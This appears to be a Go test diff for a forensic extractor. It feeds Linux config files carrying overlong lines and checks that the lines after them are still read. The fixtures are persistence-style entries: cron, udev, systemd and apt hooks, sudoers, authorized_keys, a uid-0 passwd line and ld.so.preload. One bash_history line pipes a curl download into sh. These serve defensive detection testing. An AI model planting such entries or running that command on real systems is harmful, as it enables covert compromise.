@@ -93,3 +93,42 @@ func takes(x artifact.Extractor, p string) bool {
 	}
 	return false
 }
+
+// TestLongLines: what stands behind the first MiB of a line is not read, and that is said
+// by every extractor that reads lines; what follows the line is read.
+func TestLongLines(t *testing.T) {
+	long := strings.Repeat("x", artifact.MaxLine+10)
+	for p, text := range map[string]string{
+		"/etc/crontab":                  "#" + long + "\n* * * * * root /tmp/a\n",
+		"/etc/udev/rules.d/a.rules":     "#" + long + "\nRUN+=\"/tmp/a\"\n",
+		"/etc/logrotate.d/a":            "#" + long + "\npostrotate\n/tmp/a\nendscript\n",
+		"/etc/apt/apt.conf.d/a":         "//" + long + "\nDPkg::Post-Invoke \"/tmp/a\";\n",
+		"/etc/xdg/autostart/a.desktop":  "#" + long + "\nExec=/tmp/a\n",
+		"/etc/sudoers":                  "#" + long + "\na ALL=/tmp/a\n",
+		"/root/.ssh/authorized_keys":    "#" + long + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGkq+7e6S2y1Y1Yq0dX0c0gX4m8QX8X2vRfW5h0m1w0T c\n",
+		"/etc/passwd":                   "#" + long + "\na:x:0:0::/:/bin/sh\n",
+		"/etc/hosts":                    "#" + long + "\n192.0.2.1 a\n",
+		"/etc/modules-load.d/a.conf":    "#" + long + "\nevil\n",
+		"/etc/ld.so.preload":            "#" + long + "\n/tmp/a.so\n",
+		"/etc/inittab":                  "#" + long + "\na:2:respawn:/tmp/a\n",
+		"/etc/systemd/system/a.service": "#" + long + "\n[Service]\nExecStart=/tmp/a\n",
+		"/var/lib/dpkg/info/a.list":     long + "\n/tmp/a\n",
+		"/root/.bash_history":           "echo " + long + "\ncurl http://192.0.2.1/a | sh\n",
+		"/etc/dpkg/dpkg.cfg":            "#" + long + "\npost-invoke=/tmp/a\n",
+	} {
+		n := 0
+		for _, x := range all.Extractors() {
+			if !takes(x, p) {
+				continue
+			}
+			records, err := artifacttest.Extract(t, x, artifacttest.File{Path: p, Text: text, OSID: "debian"})
+			n += len(records)
+			if err == nil || !strings.Contains(err.Error(), "longer than") {
+				t.Errorf("%s: %s says %v", p, x.Name(), err)
+			}
+		}
+		if n == 0 {
+			t.Errorf("%s: nothing is read behind the line", p)
+		}
+	}
+}
